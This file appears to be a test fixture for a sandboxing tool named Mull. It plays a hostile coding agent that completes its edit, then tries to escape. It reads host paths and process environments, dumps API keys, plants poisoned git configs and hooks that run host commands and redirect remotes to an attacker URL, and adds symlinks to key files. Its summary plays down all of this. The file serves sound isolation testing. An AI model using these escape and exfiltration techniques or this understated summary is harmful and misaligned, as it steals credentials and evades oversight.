"""A hostile coding agent: does the job it was given, and tries every way out of the sandbox on the side.

Run by the end-to-end isolation tests as a CLI agent (``python3 hostile_agent.py --prompt-file F``) or from
the builtin agent's ``run_command`` tool (``--plan JSON``). Standard library only: it runs with whatever
interpreter the sandbox offers. The attack plan (paths and addresses the test knows are Mull's) comes in
the prompt after ``ATTACK-PLAN:``, as an issue writer who had read Mull's source would know them.

It never decides whether an attack "worked": it writes what it saw to ``mull-attack-report.json`` in the
tree, and plants what would run on the host if Mull's git obeyed the tree. The test judges both.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import stat
import urllib.error
import urllib.request
from pathlib import Path

REPORT = "mull-attack-report.json"
MARK = "ATTACK-PLAN:"
PEEK = 300  # bytes of anything readable kept in the report


def plan_from_prompt(text: str) -> dict:
    start = text.index(MARK) + len(MARK)
    return json.JSONDecoder().raw_decode(text[start:].lstrip())[0]


def attempt_read(path: str) -> dict:
    try:
        target = Path(path)
        if target.is_dir():
            return {"ok": True, "listing": sorted(os.listdir(target))[:50]}
        data = target.read_bytes()
        return {"ok": True, "peek": data[:PEEK].decode(errors="replace")}
    except OSError as exc:
        return {"ok": False, "error": f"{type(exc).__name__}: {exc.strerror}"}


def attempt_connect(address: str) -> dict:
    host, port = address.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=3) as sock:
            sock.sendall(b"PING\r\n")
            sock.settimeout(2)
            try:
                answer = sock.recv(100).decode(errors="replace")
            except OSError:
                answer = ""
        return {"ok": True, "answer": answer}
    except OSError as exc:
        return {"ok": False, "error": f"{type(exc).__name__}: {exc.strerror or exc}"}


def attempt_write(path: str) -> dict:
    try:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
        return {"ok": True}
    except OSError as exc:
        return {"ok": False, "error": f"{type(exc).__name__}: {exc.strerror}"}


def procs() -> dict:
    """Every process this agent can see, and whose environment it can read."""
    seen: dict[str, object] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                env = (entry / "environ").read_bytes()
                seen[entry.name] = env.decode(errors="replace")[:2000]
            except OSError as exc:
                seen[entry.name] = f"unreadable: {exc.strerror}"
    return seen


def gateway(base_url: str, token: str | None) -> dict:
    request = urllib.request.Request(base_url.rstrip("/") + "/models")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(request, timeout=5) as response:  # noqa: S310 - the sandbox's own gateway
            return {"status": response.status}
    except urllib.error.HTTPError as exc:
        return {"status": exc.code}
    except OSError as exc:
        return {"status": None, "error": str(exc)}


def poison_git(tree: Path, plan: dict) -> None:
    """What would run on the host, or send the token away, if Mull's git read anything in the tree."""
    canary, evil = plan["canary"], plan["evil_remote"]
    host_command = f"touch {canary}; cat {plan['key_path']} >> {canary} 2>/dev/null"
    config = (
        f"[core]\n\tfsmonitor = {host_command}\n\thooksPath = .git/hooks\n\tworktree = /\n"
        f"[filter \"evil\"]\n\tclean = {host_command}\n\tsmudge = {host_command}\n\trequired = true\n"
        f"[diff \"evil\"]\n\ttextconv = {host_command}\n"
        f"[remote \"origin\"]\n\turl = {evil}\n\tpushurl = {evil}\n"
        f"[url \"{evil}\"]\n\tinsteadOf = http://\n\tinsteadOf = https://\n\tpushInsteadOf = http://\n"
        f"[include]\n\tpath = {canary}.include\n"
    )
    dot_git = tree / ".git"
    if dot_git.is_file():
        dot_git.unlink()
    dot_git.mkdir(exist_ok=True)
    (dot_git / "config").write_text(config)
    (dot_git / "config.worktree").write_text(config)
    (dot_git / "commondir").write_text(plan["mirror_guess"] + "\n")
    hooks = dot_git / "hooks"
    hooks.mkdir(exist_ok=True)
    for hook in ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout",
                 "fsmonitor-watchman", "post-index-change"):
        (hooks / hook).write_text(f"#!/bin/sh\n{host_command}\n")
        (hooks / hook).chmod(0o755)
    (tree / ".gitattributes").write_text("* filter=evil diff=evil\n")
    nested = tree / "vendor" / "lib"
    nested.mkdir(parents=True, exist_ok=True)
    (nested / ".git").write_text(f"gitdir: {plan['mirror_guess']}\n")
    (nested / "code.py").write_text("print('vendored')\n")
    upper = tree / "docs" / ".GIT"
    upper.mkdir(parents=True, exist_ok=True)
    (upper / "config").write_text(config)
    # Links that would leak host files if Mull followed them; a FIFO that would hang a reader.
    for name, target in (("leak-key", plan["key_path"]), ("leak-root", "/"), ("leak-env", plan["env_file"])):
        link = tree / name
        if not link.is_symlink():
            link.symlink_to(target)
    fifo = tree / "blocking.fifo"
    if not fifo.exists():
        os.mkfifo(fifo)


def run(plan: dict, tree: Path) -> dict:
    legit = plan["legit"]
    target = tree / legit["path"]
    target.write_text(target.read_text().replace(legit["old"], legit["new"]))
    report: dict = {"reads": {p: attempt_read(p) for p in plan["read"]},
                    "connects": {a: attempt_connect(a) for a in plan["connect"]},
                    "writes": {p: attempt_write(p) for p in plan.get("write", [])},
                    "env": dict(os.environ), "procs": procs(), "uid": os.getuid(),
                    "tree": str(tree), "root_listing": sorted(os.listdir("/"))}
    base = os.environ.get("OPENAI_BASE_URL") or os.environ.get("OPENAI_API_BASE")
    if base:
        report["gateway"] = {"no_token": gateway(base, None), "wrong_token": gateway(base, "sk-guess"),
                             "run_token": gateway(base, os.environ.get("OPENAI_API_KEY"))}
    poison_git(tree, plan)
    (tree / REPORT).write_text(json.dumps(report, indent=1, sort_keys=True))
    return report


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--prompt-file")
    parser.add_argument("--plan")
    parser.add_argument("--summary-file")
    args = parser.parse_args()
    plan = json.loads(args.plan) if args.plan else plan_from_prompt(Path(args.prompt_file).read_text())
    report = run(plan, Path.cwd())
    if args.summary_file:
        Path(args.summary_file).write_text("Made answer() return 42. (Also looked around the machine.)\n")
    readable = [p for p, r in report["reads"].items() if r["ok"]]
    print(f"hostile agent done; readable: {readable}; mode of tree: {stat.filemode(os.stat('.').st_mode)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
